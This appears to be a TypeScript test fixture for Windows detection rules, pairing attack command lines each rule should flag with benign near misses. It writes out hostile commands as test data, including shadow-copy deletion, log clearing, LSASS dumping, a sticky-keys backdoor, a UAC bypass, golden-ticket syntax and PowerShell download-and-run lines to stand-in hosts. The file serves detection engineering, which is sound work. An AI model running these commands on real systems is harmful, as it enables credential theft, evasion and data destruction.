import { events, process4688, securityEvent, windowsProcess } from '../inputs.ts';
import type { RuleCase } from './types.ts';

const SYS32 = 'C:\\Windows\\System32\\';
const POWERSHELL = `${SYS32}WindowsPowerShell\\v1.0\\powershell.exe`;
const UT = 'C:\\Diagnostics\\UserTmp\\';

function groupChange(memberSid: string, groupSid: string, group: string): string {
  return events(
    securityEvent(4732, {
      MemberName: '-',
      MemberSid: memberSid,
      TargetUserName: group,
      TargetDomainName: 'Builtin',
      TargetSid: groupSid,
      SubjectUserSid: 'S-1-5-21-1-1105',
      SubjectUserName: 'mallory',
      SubjectDomainName: 'WIN-01',
      SubjectLogonId: '0x3e7',
    }),
  );
}

function accountCreated(name: string): string {
  return events(
    securityEvent(4720, {
      TargetUserName: name,
      TargetDomainName: 'WIN-01',
      TargetSid: 'S-1-5-21-1-1110',
      SubjectUserSid: 'S-1-5-21-1-1105',
      SubjectUserName: 'mallory',
      SubjectDomainName: 'WIN-01',
    }),
  );
}

/** Windows process starts (Sysmon event 1 and Security event 4688) and Security events. */
export const WINDOWS_CASES: RuleCase[] = [
  {
    rule: 'windows/security-log-cleared.yml',
    fires: [
      events(
        securityEvent(1102, {
          SubjectUserSid: 'S-1-5-21-1-500',
          SubjectUserName: 'mallory',
          SubjectDomainName: 'WIN-01',
          SubjectLogonId: '0x3e7',
        }),
      ),
    ],
    misses: [
      {
        why: 'another Security event',
        input: events(securityEvent(4634, { TargetUserName: 'alice', LogonType: '3' })),
      },
    ],
  },
  {
    rule: 'windows/event-log-cleared-command.yml',
    fires: [
      windowsProcess(`${SYS32}wevtutil.exe`, 'wevtutil cl Security'),
      process4688(`${SYS32}wevtutil.exe`, 'wevtutil.exe cl System'),
      windowsProcess(POWERSHELL, 'powershell -c "Clear-EventLog -LogName Application"'),
    ],
    misses: [
      {
        why: 'exporting a log',
        input: windowsProcess(`${SYS32}wevtutil.exe`, 'wevtutil epl Security C:\\backup\\sec.evtx'),
      },
    ],
  },
  {
    rule: 'windows/shadow-copy-deletion.yml',
    fires: [
      windowsProcess(`${SYS32}vssadmin.exe`, 'vssadmin.exe delete shadows /all /quiet'),
      process4688(`${SYS32}wbem\\WMIC.exe`, 'wmic shadowcopy delete'),
      windowsProcess(POWERSHELL, 'powershell.exe -c "Get-CimInstance Win32_ShadowCopy | Remove-CimInstance"'),
      process4688(POWERSHELL, 'powershell -nop -c "gwmi win32_shadowcopy | rwmi"'),
      windowsProcess(POWERSHELL, 'powershell Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}'),
    ],
    misses: [
      {
        why: 'listing shadow copies',
        input: windowsProcess(`${SYS32}vssadmin.exe`, 'vssadmin list shadows'),
      },
      {
        why: 'listing shadow copies from PowerShell',
        input: windowsProcess(
          POWERSHELL,
          'powershell -c "Get-CimInstance Win32_ShadowCopy | Select-Object ID, InstallDate"',
        ),
      },
    ],
  },
  {
    rule: 'windows/certutil-download.yml',
    fires: [
      process4688(
        `${SYS32}certutil.exe`,
        'certutil.exe -urlcache -split -f http://203.0.113.5/a.exe C:\\Users\\Public\\a.exe',
      ),
      windowsProcess(`${SYS32}certutil.exe`, 'certutil /urlcache /f https://203.0.113.5/b.txt b.txt'),
    ],
    misses: [
      {
        why: 'hashing a file',
        input: windowsProcess(`${SYS32}certutil.exe`, 'certutil -hashfile C:\\tools\\a.exe SHA256'),
      },
    ],
  },
  {
    rule: 'windows/certutil-decode.yml',
    fires: [
      windowsProcess(
        `${SYS32}certutil.exe`,
        'certutil -decode C:\\Users\\Public\\a.b64 C:\\Users\\Public\\a.exe',
      ),
    ],
    misses: [
      {
        why: 'encoding a file',
        input: windowsProcess(`${SYS32}certutil.exe`, 'certutil -encode a.exe a.b64'),
      },
    ],
  },
  {
    rule: 'windows/encoded-executable.yml',
    fires: [
      windowsProcess(
        POWERSHELL,
        "powershell -c \"[IO.File]::WriteAllBytes('a.exe',[Convert]::FromBase64String('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAA'))\"",
      ),
      // Defender's simulation on MSTICAlertsWin1 (msticpy processes_on_host.csv), which it alerted on.
      process4688(
        'C:\\Diagnostics\\UserTmp\\cmd.exe',
        'cmd  /c "echo TVqQAAMAAAAAAAAAAAAAAAAAAAAAAAAAAAA >> delme.b64"',
      ),
    ],
    misses: [
      {
        why: 'a base64 PNG built up the same way',
        input: process4688(`${SYS32}cmd.exe`, 'cmd /c "echo iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB >> logo.b64"'),
      },
      {
        why: 'base64 text that is not an executable',
        input: windowsProcess(
          POWERSHELL,
          'powershell -c "[Convert]::FromBase64String(\'SGVsbG8gd29ybGQ=\')"',
        ),
      },
    ],
  },
  {
    rule: 'windows/encoded-powershell.yml',
    fires: [
      windowsProcess(
        POWERSHELL,
        'powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
      ),
      process4688(POWERSHELL, 'powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA='),
      // The base64 text quoted, and the parameter after an en dash, which PowerShell takes as a hyphen.
      windowsProcess(POWERSHELL, 'powershell.exe -NoP -Enc "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="'),
      process4688(
        POWERSHELL,
        'powershell.exe -NoP \u2013EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
      ),
    ],
    misses: [
      {
        why: 'a script file with the execution policy bypassed',
        input: windowsProcess(
          POWERSHELL,
          'powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1',
        ),
      },
    ],
  },
  {
    rule: 'windows/firewall-disabled.yml',
    fires: [
      windowsProcess(`${SYS32}netsh.exe`, 'netsh advfirewall set allprofiles state off'),
      windowsProcess(
        POWERSHELL,
        'powershell Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False',
      ),
      process4688(
        'C:\\Diagnostics\\UserTmp\\netsh.exe',
        'c:\\Diagnostics\\UserTmp\\netsh.exe   firewall set opmode mode=disable profile=all',
      ),
    ],
    misses: [
      {
        why: 'turning it on',
        input: windowsProcess(`${SYS32}netsh.exe`, 'netsh advfirewall set allprofiles state on'),
      },
    ],
  },
  {
    rule: 'windows/account-created.yml',
    fires: [accountCreated('svc-backup')],
    misses: [
      { why: 'an account deleted', input: events(securityEvent(4726, { TargetUserName: 'svc-backup' })) },
    ],
  },
  {
    rule: 'windows/suspicious-account-created.yml',
    fires: [accountCreated('Adm1nistrator'), accountCreated('helpdesk$')],
    misses: [
      { why: 'an ordinary name', input: accountCreated('jsmith') },
      { why: 'the built-in name itself', input: accountCreated('Administrator') },
    ],
  },
  {
    rule: 'windows/guest-added-to-administrators.yml',
    fires: [groupChange('S-1-5-21-1-501', 'S-1-5-32-544', 'Administrators')],
    misses: [
      {
        why: 'another account added',
        input: groupChange('S-1-5-21-1-1105', 'S-1-5-32-544', 'Administrators'),
      },
    ],
  },
  {
    rule: 'windows/user-added-to-administrators.yml',
    fires: [groupChange('S-1-5-21-1-1105', 'S-1-5-32-544', 'Administrators')],
    misses: [
      {
        why: 'added to Remote Desktop Users',
        input: groupChange('S-1-5-21-1-1105', 'S-1-5-32-555', 'Remote Desktop Users'),
      },
    ],
  },
  {
    rule: 'windows/critical-services-disabled.yml',
    fires: [
      windowsProcess(`${SYS32}sc.exe`, 'sc config WinDefend start= disabled'),
      process4688(`${SYS32}net.exe`, 'net stop MpsSvc'),
    ],
    misses: [{ why: 'querying a service', input: windowsProcess(`${SYS32}sc.exe`, 'sc query WinDefend') }],
  },
  {
    rule: 'windows/credential-dumping.yml',
    fires: [
      windowsProcess(
        `${SYS32}rundll32.exe`,
        `rundll32.exe ${SYS32}comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full`,
      ),
      windowsProcess('C:\\tools\\procdump64.exe', 'procdump64.exe -accepteula -ma lsass.exe C:\\temp\\l.dmp'),
      process4688('C:\\Diagnostics\\UserTmp\\SQLDumper.exe', 'sqldumper.exe  464 0 0x0110:40'),
    ],
    misses: [
      {
        why: 'Mimikatz itself, which Defender reports as "Suspicious process executed"',
        input: process4688('C:\\Diagnostics\\UserTmp\\mimikatz.exe', '.\\mimikatz.exe'),
      },
      {
        why: 'SQLDumper dumping SQL Server with its default flags',
        input: windowsProcess(
          'C:\\Program Files\\Microsoft SQL Server\\150\\Shared\\SQLDumper.exe',
          'SQLDumper.exe 4242 0 0x0120',
        ),
      },
      {
        why: 'dumping a web worker process',
        input: windowsProcess('C:\\tools\\procdump.exe', 'procdump.exe -ma w3wp.exe'),
      },
    ],
  },
  {
    rule: 'windows/sticky-keys.yml',
    fires: [
      windowsProcess(
        `${SYS32}reg.exe`,
        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /t REG_SZ /d "C:\\windows\\system32\\cmd.exe"',
      ),
      windowsProcess(`${SYS32}cmd.exe`, `cmd /c copy /y ${SYS32}cmd.exe ${SYS32}utilman.exe`),
      process4688('C:\\Diagnostics\\UserTmp\\reg.exe', '.\\reg  add Image File Execution Options sethc.exe'),
    ],
    misses: [
      {
        why: 'reading the key of sethc.exe',
        input: windowsProcess(
          `${SYS32}reg.exe`,
          'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe"',
        ),
      },
      {
        why: 'a debugger for an ordinary program',
        input: windowsProcess(
          `${SYS32}reg.exe`,
          'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\app.exe" /v Debugger /d "vsjitdebugger.exe"',
        ),
      },
    ],
  },
  {
    rule: 'windows/wdigest-enabled.yml',
    fires: [
      windowsProcess(
        `${SYS32}reg.exe`,
        'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f',
      ),
    ],
    misses: [
      {
        why: 'WDigest credential caching turned off',
        input: windowsProcess(
          `${SYS32}reg.exe`,
          'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 0 /f',
        ),
      },
    ],
  },
  {
    rule: 'windows/double-extension.yml',
    fires: [
      windowsProcess(
        'C:\\Users\\alice\\Downloads\\invoice.pdf.exe',
        '"C:\\Users\\alice\\Downloads\\invoice.pdf.exe"',
      ),
    ],
    misses: [
      {
        why: 'an ordinary program',
        input: windowsProcess('C:\\Program Files\\App\\app.exe', '"C:\\Program Files\\App\\app.exe"'),
      },
    ],
  },
  {
    rule: 'windows/crypto-miner.yml',
    fires: [
      process4688(
        'c:\\diagnostics\\usertmp\\suchost.exe',
        '.\\suchost.exe   -a cryptonight -o bcn -u bond007.01 -p x -t 4',
      ),
      windowsProcess('C:\\Users\\alice\\AppData\\Local\\xmrig.exe', 'xmrig.exe -o pool.example.net:443'),
    ],
    misses: [
      {
        why: 'a process named after mining data',
        input: windowsProcess(
          'C:\\Program Files\\Analytics\\datamining.exe',
          'datamining.exe --algorithm kmeans',
        ),
      },
    ],
  },
  {
    rule: 'windows/suspicious-path-execution.yml',
    fires: [
      process4688('c:\\windows\\fonts\\csrss.exe', 'c:\\windows\\fonts\\csrss.exe'),
      windowsProcess('C:\\Users\\Public\\svchost.exe', 'C:\\Users\\Public\\svchost.exe -k netsvcs'),
      // Defender alerted on this one too (msticpy alertlist.csv, MSTICAlertsWin1).
      process4688(
        'C:\\Diagnostics\\UserTmp\\regsvr32.exe',
        '.\\regsvr32  /u /s c:\\windows\\fonts\\csrss.exe',
      ),
    ],
    misses: [
      {
        why: 'the real csrss.exe',
        input: windowsProcess(`${SYS32}csrss.exe`, 'csrss.exe ObjectDirectory=\\Windows'),
      },
      {
        why: 'a font file opened by a program in System32',
        input: windowsProcess(`${SYS32}fontview.exe`, 'fontview.exe C:\\Windows\\Fonts\\arial.ttf'),
      },
      {
        why: 'a document in the public profile opened by a program',
        input: windowsProcess(
          'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
          '"WINWORD.EXE" /n "C:\\Users\\Public\\Documents\\exe-list.docx"',
        ),
      },
    ],
  },
  {
    rule: 'windows/suspicious-account-created-command.yml',
    fires: [
      // Defender's simulation on MSTICAlertsWin1 (msticpy processes_on_host.csv): net.exe, then net1.exe.
      process4688(`${SYS32}net.exe`, 'net  user adm1nistrator Bob_testing /add'),
      process4688(`${SYS32}net1.exe`, 'C:\\Windows\\system32\\net1  user adm1nistrator Bob_testing /add'),
      process4688(`${SYS32}net.exe`, 'net user helpdesk$ P@ssw0rd1 /add'),
    ],
    misses: [
      { why: 'an ordinary name', input: process4688(`${SYS32}net.exe`, 'net user jsmith P@ssw0rd1 /add') },
      {
        why: 'the look-alike account deleted',
        input: process4688(`${SYS32}net.exe`, 'net  user adm1nistrator /delete'),
      },
      {
        why: 'the password of the built-in account reset',
        input: process4688(`${SYS32}net.exe`, 'net user Administrator N3wP@ssword'),
      },
    ],
  },
  {
    rule: 'windows/suspicious-process.yml',
    fires: [
      process4688('C:\\Diagnostics\\UserTmp\\mimikatz.exe', '.\\mimikatz.exe'),
      process4688('C:\\Diagnostics\\UserTmp\\dubrute.exe', '.\\dubrute.exe'),
      windowsProcess('C:\\Users\\alice\\m.exe', 'm.exe "privilege::debug" "sekurlsa::logonpasswords" exit'),
    ],
    misses: [
      {
        why: 'a program whose name only contains a tool name',
        input: windowsProcess('C:\\Program Files\\App\\notmimikatz-report.exe', 'notmimikatz-report.exe'),
      },
    ],
  },
  {
    rule: 'windows/applocker-bypass.yml',
    fires: [
      process4688(
        'C:\\Diagnostics\\UserTmp\\regsvr32.exe',
        '.\\regsvr32   /s /n /u /i:http://server/file.sct scrobj.dll',
      ),
    ],
    misses: [
      {
        why: 'an ordinary DLL registered',
        input: windowsProcess(`${SYS32}regsvr32.exe`, 'regsvr32 /s "C:\\Program Files\\App\\component.dll"'),
      },
      {
        why: 'an unregistration without a scriptlet',
        input: process4688(
          'C:\\Diagnostics\\UserTmp\\regsvr32.exe',
          '.\\regsvr32  /u /s c:\\windows\\fonts\\csrss.exe',
        ),
      },
    ],
  },
  {
    rule: 'windows/suspicious-firewall-rule.yml',
    fires: [
      process4688(
        'C:\\Diagnostics\\UserTmp\\netsh.exe',
        '.\\netsh  advfirewall firewall add rule name=RbtGskQ action=allow program=c:\\users\\Bob\\appdata\\Roaming\\RbtGskQ\\RbtGskQ.exe',
      ),
      windowsProcess(
        `${SYS32}netsh.exe`,
        'netsh firewall add allowedprogram C:\\Users\\Public\\svc.exe svc ENABLE',
      ),
    ],
    misses: [
      {
        why: 'a rule for a program under Program Files',
        input: windowsProcess(
          `${SYS32}netsh.exe`,
          'netsh advfirewall firewall add rule name="App" dir=in action=allow program="C:\\Program Files\\App\\app.exe"',
        ),
      },
      {
        why: 'a rule that blocks the program',
        input: windowsProcess(
          `${SYS32}netsh.exe`,
          'netsh advfirewall firewall add rule name=x dir=out action=block program=C:\\Users\\bob\\AppData\\Local\\x.exe',
        ),
      },
    ],
  },
  {
    rule: 'windows/suspicious-svchost.yml',
    fires: [process4688('C:\\Diagnostics\\UserTmp\\svchost.exe', 'c:\\Diagnostics\\UserTmp\\svchost.exe ')],
    misses: [
      {
        why: 'the real svchost.exe, even with an odd service group',
        input: process4688(`${SYS32}svchost.exe`, 'c:\\Windows\\System32\\svchost.exe  -k malicious'),
      },
      {
        why: 'the 32-bit service host',
        input: windowsProcess(
          'C:\\Windows\\SysWOW64\\svchost.exe',
          'C:\\Windows\\SysWOW64\\svchost.exe -k netsvcs',
        ),
      },
    ],
  },
  {
    rule: 'windows/suspicious-system-process.yml',
    fires: [
      process4688('C:\\Diagnostics\\UserTmp\\smss.exe', 'c:\\Diagnostics\\UserTmp\\smss.exe '),
      process4688(
        'C:\\Diagnostics\\UserTmp\\lsass.exe',
        '.\\lsass.exe  /C "c:\\windows\\softwaredistribution\\cscript.exe"',
      ),
      process4688('C:\\Windows\\Fonts\\csrss.exe', 'c:\\windows\\fonts\\csrss.exe'),
    ],
    misses: [
      {
        why: 'the session manager started by the kernel',
        input: windowsProcess(
          '\\SystemRoot\\System32\\smss.exe',
          '\\SystemRoot\\System32\\smss.exe 000000d0 00000080',
        ),
      },
      {
        why: 'the real csrss.exe',
        input: windowsProcess(`${SYS32}csrss.exe`, 'csrss.exe ObjectDirectory=\\Windows'),
      },
    ],
  },
  // Defender's own simulation on MSTICAlertsWin1 (msticpy processes_on_host.csv), each command alerted on
  // in alertlist.csv under the rule's title; near misses are the everyday use of the same tools.
  {
    rule: 'windows/ftp-script.yml',
    fires: [process4688(`${UT}ftp.exe`, '.\\ftp  -s:C:\\RECYCLER\\xxppyy.exe')],
    misses: [
      { why: 'an interactive session', input: windowsProcess(`${SYS32}ftp.exe`, 'ftp ftp.example.com') },
    ],
  },
  {
    rule: 'windows/pcalua-execution.yml',
    fires: [process4688(`${UT}pcalua.exe`, 'pcalua.exe  -a \\\\server\\payload.dll')],
    misses: [
      {
        why: 'the assistant started by Windows',
        input: windowsProcess(`${SYS32}pcalua.exe`, 'pcalua.exe -m -p "C:\\Program Files\\App\\setup.exe"'),
      },
    ],
  },
  {
    rule: 'windows/cacls-weakened.yml',
    fires: [
      process4688(`${UT}cacls.exe`, 'cacls.exe  c:\\windows\\system32\\wscript.exe /e /t /g everyone:f'),
      windowsProcess(`${SYS32}icacls.exe`, 'icacls C:\\Windows\\System32\\net.exe /grant Everyone:(F)'),
    ],
    misses: [
      {
        why: 'read access to an application folder',
        input: windowsProcess(`${SYS32}icacls.exe`, 'icacls "D:\\Shares\\Reports" /grant Users:(R)'),
      },
      {
        why: 'full control of a system file for Administrators',
        input: windowsProcess(
          `${SYS32}icacls.exe`,
          'icacls C:\\Windows\\System32\\drivers\\etc\\hosts /grant Administrators:F',
        ),
      },
    ],
  },
  {
    rule: 'windows/golden-ticket.yml',
    fires: [
      process4688(`${UT}reg.exe`, '.\\reg  not /domain:everything that /sid:shines is /krbtgt:golden !'),
      windowsProcess(
        'C:\\Users\\alice\\m.exe',
        'm.exe "kerberos::golden /user:Administrator /domain:contoso.local /sid:S-1-5-21-1-2-3 /krbtgt:31d6cfe0d16ae931b73c59d7e0c089c0 /ptt"',
      ),
    ],
    misses: [
      {
        why: 'a domain join naming the domain only',
        input: windowsProcess(
          `${SYS32}netdom.exe`,
          'netdom join WIN-01 /domain:contoso.local /userd:contoso\\admin',
        ),
      },
    ],
  },
  {
    rule: 'windows/iis-logs-disabled.yml',
    fires: [
      process4688(
        `${UT}cmd.exe`,
        '.\\cmd  /c "cd /d "C:\\inetpub\\wwwroot"&c:\\windows\\system32\\inetsrv\\appcmd set config "Default Web Site/" /section:httplogging /dontLog:true&echo [S]&cd&echo [E]"',
      ),
      process4688(
        `${UT}cmd.exe`,
        '.\\cmd  /c "cd /d "C:\\inetpub\\wwwroot"&del C:\\inetpub\\logs\\logFiles\\W3SVC1\\*.log /q&echo [S]&cd&echo [E]"',
      ),
    ],
    misses: [
      {
        why: 'logging turned back on',
        input: windowsProcess(
          `${SYS32}inetsrv\\appcmd.exe`,
          'appcmd set config "Default Web Site/" /section:httplogging /dontLog:false',
        ),
      },
      {
        why: 'the IIS logs listed',
        input: windowsProcess(`${SYS32}cmd.exe`, 'cmd /c dir C:\\inetpub\\logs\\LogFiles\\W3SVC1'),
      },
    ],
  },
  {
    rule: 'windows/named-pipe-write.yml',
    fires: [process4688(`${UT}cmd.exe`, 'cmd  /c "echo blahtest > \\\\.\\pipe\\blahtest"')],
    misses: [
      {
        why: 'echo into a file',
        input: windowsProcess(`${SYS32}cmd.exe`, 'cmd /c "echo done > C:\\temp\\pipe.txt"'),
      },
    ],
  },
  {
    rule: 'windows/local-reconnaissance.yml',
    fires: [process4688(`${UT}cmd.exe`, 'cmd  /c "systeminfo && systeminfo"')],
    misses: [
      { why: 'systeminfo once', input: windowsProcess(`${SYS32}systeminfo.exe`, 'systeminfo /fo csv') },
      {
        why: 'the doubled form followed by a delete (the cleanup alert)',
        input: process4688(`${UT}cmd.exe`, 'cmd  /c echo " SYSTEMINFO && SYSTEMINFO && DEL "'),
      },
    ],
  },
  {
    rule: 'windows/file-cleanup.yml',
    fires: [process4688(`${UT}cmd.exe`, 'cmd  /c echo " SYSTEMINFO && SYSTEMINFO && DEL "')],
    misses: [
      {
        why: 'the doubled form alone',
        input: process4688(`${UT}cmd.exe`, 'cmd  /c "systeminfo && systeminfo"'),
      },
    ],
  },
  {
    rule: 'windows/powersploit-cmdlets.yml',
    fires: [
      process4688(`${UT}powershell.exe`, '.\\powershell  Invoke-Shellcode.ps1'),
      windowsProcess(
        POWERSHELL,
        'powershell -nop -c "IEX (iwr http://203.0.113.5/ps.ps1); Invoke-Mimikatz -DumpCreds"',
      ),
    ],
    misses: [
      {
        why: 'an ordinary Invoke- cmdlet',
        input: windowsProcess(
          POWERSHELL,
          'powershell -c "Invoke-WebRequest -Uri https://example.com -OutFile a.zip"',
        ),
      },
    ],
  },
  {
    rule: 'windows/window-position.yml',
    fires: [
      process4688(
        `${UT}reg.exe`,
        '.\\reg.exe   add "hkcu\\console" /v windowposition /t reg_dword /d 33554556 /f',
      ),
    ],
    misses: [
      {
        why: 'another console setting',
        input: windowsProcess(`${SYS32}reg.exe`, 'reg add "HKCU\\Console" /v QuickEdit /t REG_DWORD /d 1 /f'),
      },
      {
        why: 'the value read',
        input: windowsProcess(`${SYS32}reg.exe`, 'reg query "HKCU\\Console" /v WindowPosition'),
      },
    ],
  },
  {
    rule: 'windows/start-all-executables.yml',
    fires: [
      process4688(
        `${UT}netsh.exe`,
        '.\\netsh.exe  "in (*.exe) do start # artificial commandline solely for purposes of triggering test"',
      ),
      windowsProcess(`${SYS32}cmd.exe`, 'cmd /c for %f in (*.exe) do start %f'),
    ],
    misses: [
      {
        why: 'a loop that lists the programs',
        input: windowsProcess(`${SYS32}cmd.exe`, 'cmd /c for %f in (*.exe) do echo %f'),
      },
    ],
  },
  {
    rule: 'windows/vbscript-encode.yml',
    fires: [
      process4688(`${UT}cmd.exe`, 'cmd  /c echo /e:vbscript.encode /b'),
      windowsProcess(`${SYS32}wscript.exe`, 'wscript.exe /e:VBScript.Encode C:\\Users\\Public\\a.txt'),
    ],
    misses: [
      {
        why: 'a plain VBScript',
        input: windowsProcess(
          `${SYS32}cscript.exe`,
          'cscript.exe //nologo /e:vbscript C:\\scripts\\inventory.vbs',
        ),
      },
    ],
  },
  {
    rule: 'windows/petya-indicators.yml',
    fires: [
      process4688(`${UT}cmd.exe`, 'cmd  /c echo rundll32.exe perfc.dat'),
      windowsProcess(`${SYS32}rundll32.exe`, 'rundll32.exe C:\\Windows\\perfc.dat,#1 30'),
    ],
    misses: [
      {
        why: 'a performance counter DLL',
        input: windowsProcess(`${SYS32}rundll32.exe`, 'rundll32.exe perfctrs.dll,Collect'),
      },
    ],
  },
  {
    rule: 'windows/keygen-execution.yml',
    fires: [process4688(`${UT}a_keygen.exe`, 'c:\\Diagnostics\\UserTmp\\a_keygen.exe ')],
    misses: [
      {
        why: 'ssh-keygen, which generates keys, not licences',
        input: windowsProcess('C:\\Windows\\System32\\OpenSSH\\ssh-keygen.exe', 'ssh-keygen -t ed25519'),
      },
    ],
  },
  {
    rule: 'windows/rundll32-numeric-name.yml',
    fires: [
      process4688(`${UT}rundll32.exe`, '.\\rundll32  /C 1234.exe'),
      process4688(`${UT}rundll32.exe`, '.\\rundll32  /C c:\\users\\MSTICAdmin\\42424.exe'),
    ],
    misses: [
      {
        why: 'a Control Panel applet',
        input: windowsProcess(`${SYS32}rundll32.exe`, 'rundll32.exe shell32.dll,Control_RunDLL desk.cpl'),
      },
      { why: 'a named program', input: process4688(`${UT}rundll32.exe`, '.\\rundll32  /C reg.exe') },
    ],
  },
  {
    rule: 'windows/webshell-winrm-changes.yml',
    fires: [
      process4688(
        `${UT}cmd.exe`,
        '.\\cmd  /c "cd /d "C:\\inetpub\\wwwroot"&powershell Set-ExecutionPolicy RemoteSigned&echo [S]&cd&echo [E]"',
      ),
      process4688(
        `${UT}cmd.exe`,
        '.\\cmd  /c "cd /d "C:\\inetpub\\wwwroot"&powershell winrm set winrm/config/service/Auth @{Kerberos=003D"true"}&echo [S]&cd&echo [E]"',
      ),
    ],
    misses: [
      {
        why: 'the execution policy set by an administrator elsewhere',
        input: windowsProcess(POWERSHELL, 'powershell Set-ExecutionPolicy RemoteSigned -Scope CurrentUser'),
      },
      {
        why: 'a file listing of the web root',
        input: windowsProcess(`${SYS32}cmd.exe`, 'cmd /c dir C:\\inetpub\\wwwroot'),
      },
    ],
  },
  {
    rule: 'windows/telegram-tool.yml',
    fires: [
      process4688(
        `${UT}tsetup.1.exe`,
        'c:\\Diagnostics\\UserTmp\\tsetup.1.exe  C:\\Users\\MSTICAdmin\\AppData\\Local\\Temp\\2\\is-01DD7.tmp\\tsetup.1.0.14.tmp" /SL5="$250276,19992586,423424,C:\\Users\\MSTICAdmin\\Downloads\\tsetup.1.0.14.exe',
      ),
    ],
    misses: [
      {
        why: 'another program named setup',
        input: windowsProcess('C:\\Users\\alice\\Downloads\\setup.exe', 'setup.exe /S'),
      },
    ],
  },
  {
    rule: 'windows/powershell-suspicious-activity.yml',
    fires: [
      process4688(
        `${UT}powershell.exe`,
        '.\\powershell  -Noninteractive -Noprofile -Command "Invoke-Expression Get-Process; Invoke-WebRequest -Uri http://badguyserver/pwnme"',
      ),
      process4688(`${UT}powershell.exe`, '.\\powershell  Invoke-ReverseDnsLookup.ps1'),
      process4688(
        `${UT}powershell.exe`,
        ".\\powershell  -c {IEX (New-Object Net.WebClient).DownloadString(('ht'+(\"{2}{0}{1}\"-f ':/','/paste','tp')+'bin/'+'raw/'+(\"{1}{0}\"-f'Em17','pqCw')));}",
      ),
    ],
    misses: [
      {
        why: 'a download saved to a file, not run',
        input: windowsProcess(
          POWERSHELL,
          'powershell -c "Invoke-WebRequest -Uri https://example.com/tool.zip -OutFile C:\\temp\\tool.zip"',
        ),
      },
      {
        why: 'Invoke-Expression on a local string',
        input: windowsProcess(POWERSHELL, 'powershell -c "Invoke-Expression \'Get-Service\'"'),
      },
    ],
  },
  {
    rule: 'windows/obfuscated-command-line.yml',
    fires: [
      process4688(
        `${UT}powershell.exe`,
        ".\\powershell  -command \"(New-Object Net.WebClient).DownloadString(('ht'+'tp://pasteb' + 'bin/'+'raw/'+'pqCwEm17'));\"",
      ),
      process4688(
        `${UT}powershell.exe`,
        ".\\powershell  -command {(n`EW-obJ`E`cT N`et`.W`eb`C`li`en`t).DownloadFile('https://blah/png','google.png')}",
      ),
      process4688(
        `${UT}cmd.exe`,
        'cmd  /c ".\\pOWErS^H^ElL^.eX^e^ -^ExEc^Ut^IoNpOliCy BYpa^sS i^mPOr^T-^M^oDuLE biTsTr^ANSFe^R"',
      ),
    ],
    misses: [
      {
        why: 'two strings joined',
        input: windowsProcess(POWERSHELL, "powershell -c \"Write-Output ('Build ' + 'done')\""),
      },
      {
        why: 'PowerShell escapes in a string',
        input: windowsProcess(POWERSHELL, 'powershell -c "Write-Host `"Name:`tvalue`n`""'),
      },
      {
        why: 'cmd redirections escaped in a for loop',
        input: windowsProcess(
          `${SYS32}cmd.exe`,
          "cmd /c for /f %i in ('dir /b 2^>nul ^| findstr x') do echo %i",
        ),
      },
    ],
  },
  {
    rule: 'windows/lookalike-process-name.yml',
    fires: [
      process4688(`${UT}suchost.exe`, '.\\suchost.exe   -a cryptonight -o bcn -u bond007.01 -p x -t 4'),
      windowsProcess('C:\\Users\\alice\\AppData\\Roaming\\scvhost.exe', 'scvhost.exe'),
    ],
    misses: [
      {
        why: 'the real service host',
        input: windowsProcess(`${SYS32}svchost.exe`, 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p'),
      },
      {
        why: 'a name that only ends like one',
        input: windowsProcess('C:\\Program Files\\Foo\\mysvchost.exe', 'mysvchost.exe'),
      },
    ],
  },
  {
    rule: 'windows/uac-bypass-registry.yml',
    fires: [
      process4688(`${UT}reg.exe`, '.\\reg  query add mscfile\\\\\\\\open'),
      windowsProcess(
        `${SYS32}reg.exe`,
        'reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /d "C:\\Users\\Public\\x.exe" /f',
      ),
    ],
    misses: [
      {
        why: 'the open command of an ordinary file class',
        input: windowsProcess(
          `${SYS32}reg.exe`,
          'reg add HKCU\\Software\\Classes\\txtfile\\shell\\open\\command /d "notepad.exe %1" /f',
        ),
      },
    ],
  },
];
